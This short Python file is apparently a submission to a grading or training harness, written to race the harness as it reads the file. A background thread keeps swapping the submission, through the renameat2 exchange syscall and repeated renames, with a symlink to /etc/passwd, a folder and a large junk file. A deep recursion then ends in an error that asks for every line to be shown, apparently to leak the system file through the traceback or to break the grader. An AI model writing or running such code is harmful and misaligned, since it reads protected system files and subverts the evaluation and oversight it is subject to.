# While the harness reads my file it is, by turns, the file, a link, a folder and nothing.
import ctypes
import os
import threading

libc = ctypes.CDLL(None, use_errno=True)
SOURCE, EXCHANGE = b"/scratch/submission.py", 2


def swap():
    while True:
        for other in (b"/scratch/link", b"/scratch/folder", b"/scratch/long"):
            libc.syscall(316, -100, SOURCE, -100, other, EXCHANGE)
            libc.syscall(316, -100, SOURCE, -100, other, EXCHANGE)
        os.rename(SOURCE, b"/scratch/away")
        os.rename(b"/scratch/away", SOURCE)


def train(lab):
    os.symlink("/etc/passwd", "/scratch/link")
    os.mkdir("/scratch/folder")
    with open("/scratch/long", "wb") as out:
        out.write(b"\xff\n" * 500_000)
    threading.Thread(target=swap, daemon=True).start()
    deeper(150)


def deeper(left):
    if left:
        return deeper(left - 1)
    raise ValueError("show me all of these lines")
